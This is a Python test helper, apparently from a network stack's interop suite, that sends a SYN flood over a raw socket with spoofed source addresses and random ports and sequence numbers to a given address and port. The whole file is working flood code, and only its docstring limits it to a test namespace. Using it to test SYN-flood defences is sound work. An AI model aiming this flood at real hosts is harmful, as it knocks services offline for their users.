#!/usr/bin/env python3
"""A SYN flood from a raw socket, for the interop tests (run inside a test's namespace).

Read first: RFC 4987 section 2 (the attack), RFC 9293 section 3.1 (the TCP header).
Sends COUNT SYNs to ADDR:PORT from random addresses of the given /24 (never
its .0-.9 or .255, so neither the kernel's .1 nor the CM's .2) and random
ports and sequence numbers, each with an MSS option. The SYN-ACKs go to
addresses nobody holds and are dropped by the kernel. Prints one JSON line
when a quarter is sent ("flooding") and one at the end ("flood_done").

  syn_flood.py --to ADDR:PORT --net A.B.C --count N [--seed S]
"""
import argparse
import ipaddress
import json
import random
import socket
import struct
import time

import raw_syn  # beside this file: the SYN and its checksum


def syn(src, dst, sport, dport, seq):
    """The SYN of raw_syn.py (MSS 1460) behind an IPv4 header whose total length,
    ID and checksum the kernel fills in (IP_HDRINCL)."""
    tcp = raw_syn.tcp_syn(ipaddress.ip_address(src), ipaddress.ip_address(dst), sport, dport, seq)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + tcp


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--to", required=True)
    p.add_argument("--net", required=True, help="the first three bytes of the namespace's /24")
    p.add_argument("--count", type=int, default=5000)
    p.add_argument("--seed", type=int, default=1)
    a = p.parse_args()
    host, port = a.to.rsplit(":", 1)
    rng = random.Random(a.seed)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    start = time.monotonic()
    for i in range(a.count):
        src = "%s.%d" % (a.net, rng.randint(10, 254))
        s.sendto(syn(src, host, rng.randint(1024, 65535), int(port), rng.getrandbits(32)), (host, 0))
        if i + 1 == a.count // 4:
            print(json.dumps({"event": "flooding", "sent": i + 1}), flush=True)
    print(json.dumps({"event": "flood_done", "sent": a.count, "seconds": round(time.monotonic() - start, 3)}),
          flush=True)


if __name__ == "__main__":
    main()
